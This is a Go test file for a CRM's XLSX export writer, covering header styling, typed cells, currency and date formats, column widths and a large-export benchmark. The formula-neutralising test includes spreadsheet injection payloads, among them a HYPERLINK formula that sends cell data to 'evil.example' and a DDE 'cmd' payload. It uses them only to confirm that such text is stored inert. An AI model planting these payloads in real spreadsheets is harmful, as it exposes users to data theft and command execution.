package sheet_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/assocrm/assocrm/crm/sheet"
)

func openXLSX(t *testing.T, b []byte) (*excelize.File, string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, f.GetSheetName(0)
}

// The workbook, read back with excelize: a bold header frozen above the
// rows; numbers, amounts, dates and booleans as typed cells with their
// formats; text as text, the formula-like ones marked with Excel's quote
// prefix and their value unchanged; columns sized to their content.
func TestWriteXLSX(t *testing.T) {
	b := writeAll(t, sheet.XLSX, testColumns, testRows())
	f, sh := openXLSX(t, b)

	rows, err := f.GetRows(sh)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(testRows()) || fmt.Sprint(rows[0]) != "[name n amount day at ok ratio]" {
		t.Fatalf("rows: %q", rows)
	}
	style := func(cell string) *excelize.Style {
		t.Helper()
		id, err := f.GetCellStyle(sh, cell)
		if err != nil {
			t.Fatal(err)
		}
		s, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	quoted := func(cell string) bool {
		t.Helper()
		id, _ := f.GetCellStyle(sh, cell)
		style(cell) // loads the styles
		q := f.Styles.CellXfs.Xf[id].QuotePrefix
		return q != nil && *q
	}
	raw := func(cell string) string {
		t.Helper()
		v, err := f.GetCellValue(sh, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	cellType := func(cell string) excelize.CellType {
		t.Helper()
		ct, err := f.GetCellType(sh, cell)
		if err != nil {
			t.Fatal(err)
		}
		return ct
	}

	for _, cell := range []string{"A1", "D1", "G1"} {
		if s := style(cell); s.Font == nil || !s.Font.Bold {
			t.Errorf("header %s not bold: %+v", cell, s.Font)
		}
	}
	if s := style("A2"); s.Font != nil && s.Font.Bold {
		t.Error("A2 is bold")
	}
	panes, err := f.GetPanes(sh)
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes: %+v, %v; want the first row frozen", panes, err)
	}

	// Text: the value unchanged; the formula-like ones quote-prefixed,
	// and none of them a formula.
	for cell, want := range map[string]string{
		"A2": "Amina", "A3": "-12", "A4": `=HYPERLINK("http://evil.example/?d="&A1,"Clic")`,
		"A5": `+cmd|' /C calc'!A0`, "A6": "@SUM(1)", "A7": "\tTAB", "A8": "\rCR",
	} {
		if got := raw(cell); got != want {
			t.Errorf("%s = %q, want %q", cell, got, want)
		}
		if ct := cellType(cell); ct != excelize.CellTypeInlineString {
			t.Errorf("%s: type %v, want text", cell, ct)
		}
		if formula, _ := f.GetCellFormula(sh, cell); formula != "" {
			t.Errorf("%s is a formula: %q", cell, formula)
		}
		if q := quoted(cell); q != (cell != "A2") {
			t.Errorf("%s %q: quote prefix %v", cell, want, q)
		}
	}

	// -12 in the integer column: a number, not quoted.
	if raw("B2") != "-12" || cellType("B2") == excelize.CellTypeInlineString || quoted("B2") {
		t.Errorf("B2 (integer -12): %q, type %v, quoted %v", raw("B2"), cellType("B2"), quoted("B2"))
	}
	// Amounts: numbers in major units with their currency's format.
	for cell, want := range map[string]string{"C2": "12.5", "C3": "1234.56", "C4": "-300"} {
		if got := raw(cell); got != want || cellType(cell) == excelize.CellTypeInlineString {
			t.Errorf("%s = %q (type %v), want the number %s", cell, got, cellType(cell), want)
		}
	}
	if s := style("C2"); s.CustomNumFmt == nil || *s.CustomNumFmt != `#,##0.00 "€"` {
		t.Errorf("EUR format: %v", s.CustomNumFmt)
	}
	if s := style("C4"); s.CustomNumFmt == nil || *s.CustomNumFmt != `#,##0 "¥"` {
		t.Errorf("JPY format: %v", s.CustomNumFmt)
	}
	if got, _ := f.GetCellValue(sh, "C3"); got != "1,234.56 €" {
		t.Errorf("C3 shown as %q", got)
	}
	// The date is a date: a serial number of that day, shown dd/mm/yyyy.
	serial, err := strconv.ParseFloat(raw("D2"), 64)
	if err != nil {
		t.Fatalf("D2: %q is no serial number", raw("D2"))
	}
	if d, err := excelize.ExcelDateToTime(serial, false); err != nil || !d.Equal(day) {
		t.Errorf("D2 = %v (%v), want %v", d, err, day)
	}
	if got, _ := f.GetCellValue(sh, "D2"); got != "05/12/2026" {
		t.Errorf("D2 shown as %q", got)
	}
	// The date-time is the wall clock of its location.
	serial, _ = strconv.ParseFloat(raw("E2"), 64)
	if d, _ := excelize.ExcelDateToTime(serial, false); !d.Equal(time.Date(2026, 12, 5, 14, 30, 15, 0, time.UTC)) {
		t.Errorf("E2 = %v, want 2026-12-05 14:30:15", d)
	}
	if got, _ := f.GetCellValue(sh, "E2"); got != "05/12/2026 14:30" {
		t.Errorf("E2 shown as %q", got)
	}
	if cellType("F2") != excelize.CellTypeBool || raw("F2") != "1" || raw("F3") != "0" {
		t.Errorf("F2, F3: %v %q %q, want booleans", cellType("F2"), raw("F2"), raw("F3"))
	}
	if raw("G3") != "-1.25" {
		t.Errorf("G3 = %q", raw("G3"))
	}
	if v := raw("B4"); v != "" {
		t.Errorf("empty cell B4 = %q", v)
	}

	// Widths: set on every column, the long text's column wider than the
	// boolean's, the date's wide enough for dd/mm/yyyy.
	widths := map[string]float64{}
	for _, col := range []string{"A", "B", "C", "D", "E", "F", "G"} {
		if widths[col], err = f.GetColWidth(sh, col); err != nil {
			t.Fatal(err)
		}
	}
	if widths["A"] < 40 || widths["F"] > 10 || widths["D"] < 11 || widths["E"] < 17 || widths["C"] < 10 {
		t.Errorf("widths %v", widths)
	}
	// In column order, as Excel wants them (it offers to repair the file
	// otherwise).
	xml := sheetXML(t, b)
	if i, j := strings.Index(xml, `<col min="1"`), strings.Index(xml, `<col min="2"`); i < 0 || j < i {
		t.Errorf("columns out of order: %s", xml[strings.Index(xml, "<cols>"):strings.Index(xml, "</cols>")])
	}
}

// sheetXML is the first worksheet's XML in the workbook b.
func sheetXML(t *testing.T, b []byte) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	r, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	x, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(x)
}

// Past the rows sampled for the widths, rows stream in order; a long
// text after the sample does not widen its column beyond the cap, and
// an empty listing still has its header.
func TestWriteXLSXManyRows(t *testing.T) {
	cols := []sheet.Column{{Name: "i", Kind: sheet.KindInteger}, {Name: "text", Kind: sheet.KindText}}
	var rows [][]sheet.Value
	for i := range 1500 {
		rows = append(rows, []sheet.Value{sheet.Int(int64(i)), sheet.Text("x" + strconv.Itoa(i))})
	}
	rows = append(rows, []sheet.Value{sheet.Int(-1), sheet.Text(string(bytes.Repeat([]byte("long "), 100)))})
	f, sh := openXLSX(t, writeAll(t, sheet.XLSX, cols, rows))
	got, err := f.GetRows(sh)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1502 || got[1][0] != "0" || got[700][1] != "x699" || got[1500][0] != "1499" || got[1501][0] != "-1" {
		t.Errorf("%d rows; some out of place", len(got))
	}
	if w, _ := f.GetColWidth(sh, "B"); w < 6 || w > 10 {
		t.Errorf("width of B: %v, want from the sample (short texts)", w)
	}

	f, sh = openXLSX(t, writeAll(t, sheet.XLSX, cols, nil))
	got, _ = f.GetRows(sh)
	if len(got) != 1 || fmt.Sprint(got[0]) != "[i text]" {
		t.Errorf("empty listing: %q", got)
	}
}

// BenchmarkWriteXLSX writes 100,000 supporter-like rows: its B/op shows
// memory does not follow the rows (excelize streams them to a temporary
// file past 16 MB).
func BenchmarkWriteXLSX(b *testing.B) {
	cols := []sheet.Column{{Name: "email"}, {Name: "first_name"}, {Name: "city"}, {Name: "phone"},
		{Name: "amount", Kind: sheet.KindMoney}, {Name: "created_at", Kind: sheet.KindDateTime}}
	row := []sheet.Value{sheet.Text(""), sheet.Text("Amina"), sheet.Text("Calais"), sheet.Text("+33 6 12 34 56 78"),
		sheet.Money(2550, "EUR"), sheet.DateTime(day, "")}
	b.ReportAllocs()
	for b.Loop() {
		var out bytes.Buffer
		w, err := sheet.NewWriter(&out, sheet.XLSX, cols)
		if err != nil {
			b.Fatal(err)
		}
		for i := range 100_000 {
			row[0] = sheet.Text("person" + strconv.Itoa(i) + "@example.org")
			if err := w.Write(row); err != nil {
				b.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(out.Len())/1e6, "MB-file")
	}
}
